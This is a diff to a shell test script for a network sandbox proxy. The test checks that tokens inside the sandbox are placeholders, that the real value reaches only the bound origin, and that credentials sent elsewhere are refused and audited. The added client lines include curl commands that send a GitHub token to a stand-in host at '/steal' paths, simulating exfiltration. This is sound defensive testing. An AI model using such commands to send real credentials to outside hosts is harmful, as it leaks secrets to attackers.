@@ -37,12 +37,21 @@ echo "python $(python3 -c 'import urllib.request; print(urllib.request.urlopen("
 echo "node $(node -e 'fetch("https://origin.test/from-node").then(r => r.text()).then(t => console.log(t)).catch(e => console.log("ERR", e.cause ? e.cause.code : e))' 2>&1 | tr -d '\n')"
 echo "git $(git ls-remote https://origin.test/acme/repo.git 2>&1 | tr -d '\n')"
 echo "blind $(curl -s --max-time 20 -o /dev/null https://blind.test/; echo "rc=$?")"
+echo "token-env $GH_TOKEN"
+curl -sS --max-time 20 -o /dev/null -H "Authorization: Bearer $GH_TOKEN" https://origin.test/with-bearer
+curl -sS --max-time 20 -o /dev/null -u "octo:$GH_TOKEN" https://origin.test/with-basic
+curl -sS --max-time 20 -o /dev/null "https://origin.test/in-query?access_token=$GH_TOKEN"
+echo "misdirected $(curl -s --max-time 20 -o /dev/null -D - -H "Authorization: Bearer $GH_TOKEN" https://other.test/steal | tr -d '\r' | awk '/^HTTP|^X-Tollgate/' | tr '\n' ' ')"
+echo "misdirected-basic $(curl -s --max-time 20 -o /dev/null -w '%{http_code}' -u "octo:$GH_TOKEN" https://other.test/steal2)"
 SH
 
+REAL=ghp_RealSecretValue0123456789abcdefXYZ
 set +e
-out=$(timeout 120 "$TOLLGATE" run --allow origin.test --allow blind.test \
-	--resolve origin.test:127.0.0.1 --resolve blind.test:127.0.0.1 --allow-cidr 127.0.0.1/32 \
-	--inspect origin.test --upstream-ca "$ORIGIN_CA" --audit "$DB" -- sh -s \
+out=$(REAL_TOKEN=$REAL timeout 120 "$TOLLGATE" run --allow origin.test --allow blind.test \
+	--allow other.test --resolve origin.test:127.0.0.1 --resolve blind.test:127.0.0.1 \
+	--resolve other.test:127.0.0.1 --allow-cidr 127.0.0.1/32 \
+	--inspect other.test --upstream-ca "$ORIGIN_CA" --audit "$DB" \
+	--secret GH_TOKEN=env:REAL_TOKEN@origin.test -- sh -s \
 	<"$TEST_TMP/client.sh" 2>"$TEST_TMP/err")
 rc=$?
 set -e
@@ -63,6 +72,31 @@ expect_match "git reaches it (TLS trusted: the origin answered)" \
 	"$(grep 'REQ GET /acme/repo.git/info/refs' "$TEST_TMP/origin.log" || true)" 'git/'
 expect_eq "a host not inspected stays blind: curl sees the origin's own certificate (error 60)" \
 	"$(result blind)" "rc=60"
+# --- a secret bound to origin.test: the sandbox holds a placeholder ------------------
+ph=$(result token-env)
+expect_match "the sandbox's GH_TOKEN is a placeholder" "$ph" '^tgph_[a-z0-9]{35}$'
+expect_match "the origin got the real value in Authorization: Bearer" \
+	"$(grep 'REQ GET /with-bearer' "$TEST_TMP/origin.log" || true)" "auth=Bearer $REAL\$"
+expect_match "... inside Authorization: Basic" \
+	"$(grep 'REQ GET /with-basic' "$TEST_TMP/origin.log" || true)" \
+	"auth=Basic $(printf 'octo:%s' "$REAL" | base64 -w0)\$"
+expect_match "... in the request line" \
+	"$(grep 'REQ GET /in-query' "$TEST_TMP/origin.log" || true)" "access_token=$REAL "
+expect_match "the placeholder sent to another inspected host is refused" \
+	"$(result misdirected)" "HTTP/1.1 403 .*X-Tollgate-Reason: secret-misdirected"
+expect_eq "... inside Basic credentials too" "$(result misdirected-basic)" "403"
+expect_eq "the other host never saw it" "$(grep -c 'steal' "$TEST_TMP/origin.log" || true)" "0"
+expect_match "the person is told, by the secret's name" "$(cat "$TEST_TMP/err")" \
+	"secret GH_TOKEN went to other.test.*secret-misdirected"
+expect_eq "the real value is not in the sandbox's output" "$(grep -c "$REAL" <<<"$out" || true)" "0"
+expect_eq "... nor on tollgate's stderr" "$(grep -c "$REAL" "$TEST_TMP/err" || true)" "0"
+expect_eq "... nor in the audit database" "$(sqlite3 "$DB" .dump | grep -c "$REAL" || true)" "0"
+expect_eq "the audit row names the misdirected secret" \
+	"$(audit_count "$DB" "reason='secret-misdirected' and detail like '%GH_TOKEN%'")" "2"
+expect_match "the injecting request's row names the secret" \
+	"$(sqlite3 "$DB" "select json_extract(detail,'\$.secrets_injected') from events where kind='connection' and json_extract(detail,'\$.path')='/with-bearer'")" \
+	"^GH_TOKEN$"
+
 rows=$(sqlite3 "$DB" "select json_extract(detail,'\$.method')||' '||json_extract(detail,'\$.path')
 	from events where kind='connection' and json_extract(detail,'\$.mode')='inspect' order by id")
 expect_match "each client's request has its own inspected row" "$rows" \
